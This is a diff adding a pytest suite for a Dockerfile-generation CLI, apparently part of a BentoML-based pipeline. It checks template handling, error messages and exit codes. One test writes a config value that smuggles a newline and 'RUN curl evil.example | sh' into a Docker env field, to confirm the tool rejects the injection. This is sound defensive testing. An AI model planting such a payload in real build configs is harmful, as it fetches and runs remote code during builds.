@@ -1,0 +1,123 @@
+"""`python -m pipeline dockerfile`, run as a real subprocess (exit codes, stdout, stderr)."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parents[2]
+
+
+def cli(*args: str, home: Path) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "BENTOML_HOME": str(home)}
+    return subprocess.run(
+        [sys.executable, "-m", "pipeline", *args],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env=env,
+        timeout=120,
+    )
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    return tmp_path / "store"
+
+
+def template(tmp_path: Path, body: str, name: str = "Dockerfile.template") -> Path:
+    path = tmp_path / name
+    path.write_text("{% extends bento_base_template %}\n" + body, encoding="utf-8")
+    return path
+
+
+def test_prints_the_dockerfile(home: Path) -> None:
+    done = cli("dockerfile", "examples/hello", home=home)
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.startswith("FROM python:")
+    assert done.stdout.rstrip().endswith(
+        'CMD ["bentoml", "serve", "/home/bentoml/bento", "--production"]'
+    )
+    assert done.stderr == ""
+
+
+def test_listed_in_help(home: Path) -> None:
+    done = cli("--help", home=home)
+    assert "dockerfile" in done.stdout and "export" in done.stdout
+
+
+def test_template_option_and_buildstage(home: Path, tmp_path: Path) -> None:
+    path = template(
+        tmp_path, "{% block SETUP_BENTO_ENVARS %}\n{{ super() }}\nRUN echo custom\n{% endblock %}\n"
+    )
+    done = cli("dockerfile", "examples/hello", "--template", str(path), "--buildstage", home=home)
+    assert done.returncode == 0, done.stderr
+    assert "RUN echo custom" in done.stdout.splitlines()
+    froms = [line for line in done.stdout.splitlines() if line.startswith("FROM ")]
+    assert froms[0].endswith("AS buildstage")
+
+
+def test_syntax_error_exit_2_with_file_and_line(home: Path, tmp_path: Path) -> None:
+    path = template(tmp_path, "{% block SETUP_BENTO_USER %}\n{{ super() \n{% endblock %}\n")
+    done = cli("dockerfile", "examples/hello", "--template", str(path), home=home)
+    assert done.returncode == 2
+    assert done.stderr.startswith(f"error: {path}:4: template syntax error")
+    assert "Traceback" not in done.stderr
+    assert done.stdout == ""
+
+
+def test_bad_block_name_warns_and_strict_fails(home: Path, tmp_path: Path) -> None:
+    path = template(tmp_path, "{% block SETUP_BENTO_COMPONENT %}\nRUN x\n{% endblock %}\n")
+    done = cli("dockerfile", "examples/hello", "--template", str(path), home=home)
+    assert done.returncode == 0
+    assert f"warning: {path}:2: block 'SETUP_BENTO_COMPONENT' does not exist" in done.stderr
+    assert "did you mean 'SETUP_BENTO_COMPONENTS'" in done.stderr
+    strict = cli("dockerfile", "examples/hello", "--template", str(path), "--strict", home=home)
+    assert strict.returncode == 2
+    assert strict.stderr.startswith(f"error: {path}:2: block 'SETUP_BENTO_COMPONENT'")
+    assert strict.stdout == "" and "Traceback" not in strict.stderr
+
+
+def test_bad_extension(home: Path, tmp_path: Path) -> None:
+    path = template(tmp_path, "", name="Dockerfile")
+    done = cli("dockerfile", "examples/hello", "--template", str(path), home=home)
+    assert done.returncode == 2
+    assert "--template" in done.stderr and ".j2, .template, .jinja" in done.stderr
+
+
+def test_no_buildkit_refuses_secret_mount(home: Path) -> None:
+    done = cli("dockerfile", "examples/secret-mount", "--no-buildkit", home=home)
+    assert done.returncode == 2
+    assert "env/docker/Dockerfile.template:5: " in done.stderr and "BuildKit" in done.stderr
+    assert "Traceback" not in done.stderr
+
+
+def test_newline_in_env_cannot_add_an_instruction(home: Path, tmp_path: Path) -> None:
+    project = tmp_path / "evil"
+    project.mkdir()
+    (project / "service.py").write_text("svc = None\n", encoding="utf-8")
+    (project / "bentofile.yaml").write_text(
+        'service: "service:svc"\ninclude: ["*.py"]\n'
+        'docker:\n  env:\n    EVIL: "x\\nRUN curl evil.example | sh"\n',
+        encoding="utf-8",
+    )
+    done = cli("dockerfile", str(project), home=home)
+    assert done.returncode == 2, done.stdout
+    assert "docker.env.EVIL" in done.stderr and "newline" in done.stderr
+    assert done.stdout == "" and "Traceback" not in done.stderr
+
+
+def test_unknown_bento(home: Path) -> None:
+    done = cli("dockerfile", "no_such_bento:latest", home=home)
+    assert done.returncode == 2
+    assert done.stderr.startswith("error: ") and "Traceback" not in done.stderr
+
+
+def test_debug_shows_the_traceback(home: Path, tmp_path: Path) -> None:
+    path = template(tmp_path, "{% block X %}\n")
+    done = cli("dockerfile", "examples/hello", "--template", str(path), "--debug", home=home)
+    assert done.returncode == 2 and "Traceback" in done.stderr
